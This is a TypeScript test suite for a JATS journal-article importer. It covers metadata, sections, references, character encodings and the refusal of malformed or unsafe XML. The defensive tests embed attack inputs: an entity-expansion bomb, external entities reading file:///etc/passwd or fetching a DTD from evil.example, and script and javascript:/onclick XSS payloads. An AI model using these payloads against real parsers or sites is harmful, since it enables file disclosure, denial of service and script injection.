import { readFileSync } from 'node:fs';
import { readArticleSource } from '../../src/features/articles/ingest/index.ts';
import { renderBody } from '../../src/features/articles/markdown.ts';
import { splitSections } from '../../src/features/articles/sections.ts';
import { Invalid } from '../../src/http/errors.ts';

const file = (name: string) => readFileSync(`${import.meta.dirname}/../fixtures/articles/${name}`);
const jats = (input: string | Uint8Array) =>
  readArticleSource({ format: 'jats', ...(typeof input === 'string' ? { text: input } : { bytes: input }) });
const article = (body: string, meta = '<title-group><article-title>T</article-title></title-group>', back = '') =>
  `<article><front><article-meta>${meta}</article-meta></front><body>${body}</body><back>${back}</back></article>`;

/** The message of the refusal. */
function refusal(input: string | Uint8Array): string {
  try {
    jats(input);
  } catch (error) {
    if (error instanceof Invalid) return error.message;
    throw error;
  }
  return 'was taken';
}

describe('JATS as PubMed Central gives it', () => {
  const read = readArticleSource({ format: 'auto', bytes: file('pmc.xml') });
  const sections = new Map(splitSections(read.body).map(({ heading, body }) => [heading, body]));

  it('says who wrote it and where it was published', () => {
    expect(read).toMatchObject({
      format: 'jats',
      title: 'Vitamin D in adults: what to measure, and when',
      authors: [
        { name: 'Robin A. Writer', credentials: 'MD, PhD' },
        { name: 'Nguyễn Thị Hoa', credentials: '' },
        { name: 'The Sample Study Group', credentials: '' },
      ],
      citation: {
        journal: 'Journal of Sample Medicine',
        year: 2024,
        volume: '17',
        issue: '2',
        doi: '10.5555/jsm.2024.0117',
      },
    });
  });

  it('keeps the sections in their order, and what is in them under headings of lower levels', () => {
    expect([...sections.keys()]).toEqual(['Abstract', 'Introduction', 'Who to test', 'Acknowledgements', 'References']);
    expect(sections.get('Abstract')).toBe(
      '### Background\n\nLow 25‑hydroxyvitamin\u00a0D is common.\n\n### Conclusions\n\nMeasure it where the result will change what you do.',
    );
    expect(sections.get('Who to test')).toContain('### In *primary* care\n');
    expect(sections.get('Who to test')).toContain('#### Older people\n\nTreat without a test.');
  });

  it('turns references into superscript numbers that lead to the list', () => {
    expect(sections.get('Introduction')).toContain(
      'Vitamin D<sub>3</sub> is made in the skin<sup>[1](#ref-1)</sup> and stored in fat.<sup>[1](#ref-1),[3](#ref-3)</sup>',
    );
    expect(sections.get('Who to test')).toContain('As [Tester et al., 2019](#ref-2) found');
    expect(sections.get('References')).toBe(
      [
        '1. Holder AB. Skin and sun. J Skin 2001;4:1.',
        '2. Tester C, Other D, et al. Testing for nothing? *Gen Pract*. 2019;8(3):10–19. [https://doi.org/10.5555/gp.2019.8](https://doi.org/10.5555/gp.2019.8)',
        '3. Body E. *Fat.* London: Press; 1999.',
      ].join('\n'),
    );
  });

  it('takes lists out of paragraphs, boxes as quotations, tables with caption and notes, captions of figures', () => {
    expect(sections.get('Introduction')).toContain(
      'at risk:\n\n- people kept **indoors**;\n- people with malabsorption;\n\nand those',
    );
    const body = sections.get('Who to test');
    expect(body).toContain('> **Box 1.** Ask before you test\n> \n> 1. Will it change management?');
    expect(body).toContain(
      '**Table 1.** What levels mean\n\n| Level, nmol/L | Meaning |\n| --- | --- |\n| < 30 | Deficient\\* |',
    );
    expect(body).toContain('<sup>\\*</sup> Treat.');
    expect(body).toContain('<th colspan="2" scope="col">Dose</th>');
    expect(body).toContain('**Figure 1.** Levels by month.');
    expect(body).toContain('The slope is b=0.4; see [the tool](https://example.org/tool) or the old one.');
  });

  it('says what was left out, and what the file says about its licence', () => {
    expect(read.warnings).toEqual([
      expect.stringMatching(/licence: This is an open access article under CC BY 4\.0\. https:\/\/creativecommons/),
      expect.stringMatching(/^Pictures are not taken, only their captions: Figure 1\./),
      expect.stringMatching(/^Formulas were taken as plain text/),
      expect.stringMatching(/1 link .*http:\/\/example\.org\/old/),
    ]);
  });
});

describe('JATS of other makers', () => {
  it('is taken out of the wrapping of PubMed Central, with prefixes and CDATA', () => {
    const wrapped = `<pmc-articleset>${article('<sec><title>A</title><p><![CDATA[1 < 2 & <b>]]> &#x3b1;</p></sec>')}</pmc-articleset>`;
    expect(jats(wrapped).body).toBe('## A\n\n1 < 2 & \\<b> α');
  });

  it('finds in-text numbers that are superscript already, and notes', () => {
    const back =
      '<fn-group><fn id="f1"><label>a</label><p>Note.</p></fn></fn-group><ref-list><ref id="r"><mixed-citation>R.</mixed-citation></ref></ref-list>';
    expect(jats(article('<p>x<sup><xref ref-type="bibr" rid="r">7</xref></sup></p>', undefined, back)).body).toBe(
      '## Introduction\n\nx<sup>[1](#ref-1)</sup>\n\n## Notes\n\n<sup>a</sup> Note.\n\n## References\n\n1. R.',
    );
  });

  it('says when there is only an abstract', () => {
    const read = jats('<article><front><article-meta><abstract><p>A.</p></abstract></article-meta></front></article>');
    expect(read).toMatchObject({ title: null, body: '## Abstract\n\nA.' });
    expect(read.warnings.join(' ')).toMatch(/no body/);
  });

  it('says that tables which are pictures were left out', () => {
    const read = jats(article('<p>A</p><table-wrap><label>Table 3</label><graphic/></table-wrap>'));
    expect(read.warnings.join(' ')).toMatch(/Table 3 is a picture/);
  });

  it('reads elements named as JavaScript’s own properties', () => {
    expect(jats(article('<p>A <toString>b</toString> <valueOf>c</valueOf></p>')).body).toBe('## Introduction\n\nA b c');
  });
});

describe('the encodings of XML', () => {
  const text = (encoding: string) => `<?xml version="1.0" encoding="${encoding}"?>${article('<p>Größe ± 5 µm</p>')}`;
  const utf16 = (source: string, big = false) => {
    const bytes = Buffer.from(source, 'utf16le');
    return big ? bytes.swap16() : bytes;
  };

  it.each([
    ['UTF-8', Buffer.from(text('UTF-8'))],
    ['UTF-8 with a mark', Buffer.from(`\ufeff${text('utf-8')}`)],
    ['none declared', Buffer.from(article('<p>Größe ± 5 µm</p>'))],
    ['ISO-8859-1', Buffer.from(text('ISO-8859-1'), 'latin1')],
    ['Windows-1252', Buffer.from(text('windows-1252'), 'latin1')],
    ['UTF-16 with a mark', utf16(`\ufeff${text('UTF-16')}`)],
    ['UTF-16, big end first', utf16(`\ufeff${text('UTF-16')}`, true)],
    ['UTF-16 without a mark', utf16(text('UTF-16'))],
  ])('reads %s', (_name, bytes) => {
    expect(jats(bytes).body).toContain('Größe ± 5 µm');
  });

  it.each([
    ['Latin-1 that says UTF-8', Buffer.from(text('UTF-8'), 'latin1'), /says that its encoding is UTF-8, but/],
    ['Latin-1 that says nothing', Buffer.from(article('<p>ö</p>'), 'latin1'), /not in UTF-8/],
    ['UTF-8 that says Latin-1', Buffer.from(text('ISO-8859-1')), /ISO-8859-1, but it is UTF-8/],
    ['UTF-8 that says UTF-16', Buffer.from(text('UTF-16')), /UTF-16/],
    ['UTF-16 that says UTF-8', utf16(`\ufeff${text('UTF-8')}`), /UTF-8, but it is UTF-16LE/],
    ['UTF-8 that says ASCII', Buffer.from(text('US-ASCII')), /ASCII/],
    [
      'half a letter',
      Buffer.from(text('UTF-8')).subarray(0, -1 * Buffer.from(' ± 5 µm</p></body><back></back></article>').length + 2),
      /can’t be read/,
    ],
    ['an encoding of another world', Buffer.from(text('EBCDIC-CP-US')), /EBCDIC-CP-US is not read here.*UTF-8/],
    ['an encoding named as a property', Buffer.from(text('constructor')), /constructor is not read here/],
    ['a control character', Buffer.from(article('<p>a\u0001b</p>')), /control characters/],
  ])('refuses %s', (_name, bytes, message) => {
    expect(refusal(bytes)).toMatch(message);
  });
});

describe('XML that is refused', () => {
  const bomb = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
  it.each<[string, string, RegExp]>([
    [
      'an entity bomb',
      `<!DOCTYPE article [<!ENTITY l0 "lol">${bomb}]>${article('<p>&l10;</p>')}`,
      /line 1.*declarations of its own/,
    ],
    [
      'an external entity',
      `<!DOCTYPE article [<!ENTITY x SYSTEM "file:///etc/passwd">]>${article('<p>&x;</p>')}`,
      /declarations of its own/,
    ],
    [
      'a parameter entity',
      `<!DOCTYPE article SYSTEM "a.dtd" [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>${article('')}`,
      /declarations of its own/,
    ],
    [
      'declarations hidden behind a quotation mark',
      `<!DOCTYPE article SYSTEM "a>b" [ ]>${article('')}`,
      /declarations of its own/,
    ],
    ['an undeclared entity', article('<p>\n a &ndash; b</p>'), /line 2.*&ndash; is an entity that is not declared.*–/],
    ['an undeclared entity in an attribute', article('<p id="&x;">a</p>'), /&x; is an entity/],
    ['a lone ampersand', article('<p>R & D</p>'), /& is an entity that is not declared.*&amp;/],
    ['a reference to no character', article('<p>&#0;</p>'), /&#0; is no character/],
    ['a reference to half a character', article('<p>&#xD800;</p>'), /no character/],
    ['deep nesting', article('<sec>'.repeat(101) + '</sec>'.repeat(101)), /nested more than 100 deep/],
    ['endless nesting', '<a>'.repeat(500_000), /nested more than 100 deep/],
    ['elements that cross', article('<p>\n<bold>a</p></bold>'), /line 2/],
    ['an element that is not closed', '<article><front>', /well formed/],
    ['an attribute twice', article('<p a="1" a="2">b</p>'), /well formed/],
    ['an attribute without quotation marks', article('<p a=1>b</p>'), /well formed/],
    ['a tag in an attribute', article('<p a="<">b</p>'), /“<” stands in the value/],
    ['two articles in a row', `${article('<p>a</p>')}${article('<p>b</p>')}`, /one outermost element/],
    ['text outside', `a${article('<p>a</p>')}`, /outside the outermost element/],
    ['a comment that is not closed', `<article><!-- ${'<!-- '.repeat(1000)}`, /comment is not closed/],
    ['a CDATA section that is not closed', '<article><![CDATA[ a', /CDATA section is not closed/],
    ['a declaration in the text', '<article><!ENTITY a "b"></article>', /declaration stands outside/],
    ['a name that is no name', article('<__proto__>a</__proto__>'), /can’t be read/],
    ['something else than JATS', '<html><body><p>a</p></body></html>', /outermost element is html, not article/],
    [
      'several articles',
      `<pmc-articleset>${article('<p>a</p>')}${article('<p>b</p>')}</pmc-articleset>`,
      /several articles/,
    ],
    ['an article without its data', '<article><body><p>a</p></body></article>', /no article-meta/],
    ['nothing to read', article(''), /no text in it/],
    ['an empty file', '', /one outermost element/],
    ['more than 5 MB', article(`<p>${'a'.repeat(5_000_000)}</p>`), /larger than 5 MB/],
  ])('%s', (_name, source, message) => {
    expect(refusal(source)).toMatch(message);
  });

  it('fetches no DTD: its address means nothing', () => {
    expect(jats(`<!DOCTYPE article PUBLIC "x" "file:///etc/passwd">${article('<p>a</p>')}`).body).toBe(
      '## Introduction\n\na',
    );
  });

  it('counts a character reference as one character, however many there are', () => {
    expect(jats(article(`<p>${'&#x41;'.repeat(100_000)}</p>`)).body).toBe(`## Introduction\n\n${'A'.repeat(100_000)}`);
  });
});

describe('what JATS may smuggle in', () => {
  it('comes out as text or not at all', () => {
    const { body } = jats(
      article(
        '<p>&lt;script&gt;alert(1)&lt;/script&gt; <ext-link xlink:href="javascript:alert(1)">a</ext-link> <ext-link xlink:href="https://x.example/&quot; onclick=&quot;alert(1)">b</ext-link><script>alert(2)</script></p>',
      ),
    );
    expect(renderBody(body.replace('## Introduction', ''), { html: true }).html).toBe(
      '<p>&lt;script&gt;alert(1)&lt;/script&gt; a <a href="https://x.example/%22%20onclick=%22alert(1)" rel="noreferrer">b</a>alert(2)</p>',
    );
  });
});
